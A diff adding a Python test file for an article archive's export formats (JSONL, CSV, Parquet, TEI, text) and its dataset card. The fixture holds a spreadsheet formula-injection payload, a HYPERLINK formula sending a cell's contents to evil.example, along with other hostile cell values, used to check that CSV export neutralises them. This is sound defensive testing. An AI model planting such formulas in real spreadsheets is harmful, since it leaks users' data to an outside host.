@@ -1,0 +1,131 @@
+"""Exports hold every article exactly, whatever it says, and cost a spreadsheet nothing."""
+
+import csv
+import json
+import re
+from datetime import UTC, datetime
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from click.testing import CliRunner, Result
+from hypothesis import given
+from hypothesis import strategies as st
+
+from archive import export
+from archive.cli import main
+from archive.model import Image
+from archive.search.find import ask
+from archive.store import Archive
+from tests.archive.conftest import store
+from tests.archive.test_datasette import HOSTILE
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+TEI = "{http://www.tei-c.org/ns/1.0}"
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("export")
+    with Archive.open(folder) as archive:
+        store(archive)
+        store(
+            archive, "https://news.example/formula", headline=FORMULA,
+            paragraphs=("+1", "-2", "@x, \"quoted\"\r\nline"), authors=("=1+1",), byline="'quoted'",
+            published_at=None, publisher="Hostile | Sons",
+        )  # fmt: skip
+        store(
+            archive,
+            "https://news.example/arabic",
+            headline="الهدنة تصمد",
+            paragraphs=("قال المراقبون.",),
+            language="ar",
+        )
+        odd = (HOSTILE, "bell \x07 form \f feed \ufffe", "a ]]> b & c")
+        store(archive, "https://news.example/odd", headline=HOSTILE, paragraphs=odd, images=(Image(caption=HOSTILE),))
+    return folder
+
+
+def rows(folder: Path, query: str = "") -> list[export.Row]:
+    with Archive.open(folder, write=False) as archive:
+        return list(export.articles(archive.connection, ask(archive.connection, query)))
+
+
+def run(folder: Path, *arguments: str) -> Result:
+    return CliRunner().invoke(main, ["export", "--archive", str(folder), *arguments])
+
+
+@pytest.mark.parametrize(("form", "read"), [("jsonl", export.read_jsonl), ("csv", export.read_csv)])
+def test_what_is_written_is_read_back_exactly(folder: Path, tmp_path: Path, form: str, read: object) -> None:
+    path = tmp_path / f"all.{form}"
+    result = run(folder, "--format", form, "--output", str(path))
+    assert result.exit_code == 0, result.output
+    assert list(read(path)) == rows(folder)  # type: ignore[operator]
+    assert len(rows(folder)) == 4
+
+
+def test_parquet_is_read_back_exactly(folder: Path, tmp_path: Path) -> None:
+    parquet = pytest.importorskip("pyarrow.parquet", reason="pyarrow is not installed")
+    run(folder, "--format", "parquet", "--output", str(tmp_path / "all.parquet"))
+    found = parquet.read_table(tmp_path / "all.parquet").to_pylist()
+    lists = ("authors", "tags", "images", "related")
+    assert [{**row, **{name: json.loads(row[name]) for name in lists}} for row in found] == rows(folder)
+
+
+def test_without_pyarrow_it_says_what_to_do(folder: Path, tmp_path: Path) -> None:
+    try:
+        import pyarrow  # noqa: F401, PLC0415
+    except ImportError:
+        result = run(folder, "--format", "parquet", "--output", str(tmp_path / "all.parquet"))
+        assert result.exit_code != 0
+        assert "pip install pyarrow" in result.output
+
+
+def test_no_cell_is_computed(folder: Path, tmp_path: Path) -> None:
+    run(folder, "--format", "csv", "--output", str(tmp_path / "all.csv"))
+    with (tmp_path / "all.csv").open(encoding="utf-8", newline="") as stream:
+        cells = [cell for row in csv.reader(stream) for cell in row]
+    assert any(cell == "'" + FORMULA for cell in cells)
+    assert [cell for cell in cells if re.match(r"[=+@\t\r]|-(?!\d+(\.\d+)?$)", cell)] == []
+
+
+@given(st.text() | st.none() | st.integers() | st.lists(st.text()))
+def test_a_cell_says_the_same_again(value: object) -> None:
+    name = {str: "text", type(None): "text", int: "id", list: "authors"}[type(value)]
+    assert export._value(name, export.cell(value)) == value
+
+
+def test_tei_is_well_formed_and_has_the_text(folder: Path, tmp_path: Path) -> None:
+    run(folder, "--format", "tei", "--output", str(tmp_path / "all.xml"))
+    corpus = ElementTree.parse(tmp_path / "all.xml").getroot()
+    heads = [head.text for head in corpus.iter(f"{TEI}head")]
+    assert heads == [row["headline"] for row in rows(folder)]
+    assert [body[1].text for body in corpus.iter(f"{TEI}body")][2] == "قال المراقبون."
+
+
+def test_text_has_one_article_between_two_form_feeds(folder: Path, tmp_path: Path) -> None:
+    run(folder, "--format", "text", "--output", str(tmp_path / "all.txt"))
+    articles = (tmp_path / "all.txt").read_text(encoding="utf-8").split("\f\n")
+    assert len(articles) == 5
+    assert articles[2].startswith("الهدنة تصمد\n")
+
+
+def test_a_search_is_exported_with_its_card(folder: Path, tmp_path: Path) -> None:
+    path = tmp_path / "some.jsonl"
+    result = run(folder, "هدنة", "--language", "ar", "--output", str(path))
+    assert result.exit_code == 0, result.output
+    assert [row["headline"] for row in export.read_jsonl(path)] == ["الهدنة تصمد"]
+    card = path.with_name("some.jsonl.card.md").read_text(encoding="utf-8")
+    assert "1 articles" in card
+    assert "`هدنة language:ar`" in card
+    assert "| Tarn Post | 1 |" in card
+    assert "licences are unknown" in card
+    assert run(folder, "nowhere", "--output", str(path)).exit_code == 1
+    assert "الهدنة" in run(folder, "هدنة", "--output", "-").output
+
+
+def test_the_card_escapes_names(folder: Path) -> None:
+    with Archive.open(folder, write=False) as archive:
+        query = ask(archive.connection, "")
+        card = export.card(archive.connection, query, asked="", count=4, made_at=datetime(2026, 3, 4, tzinfo=UTC))
+    assert "| Hostile   Sons | 1 | ? | ? |" in card
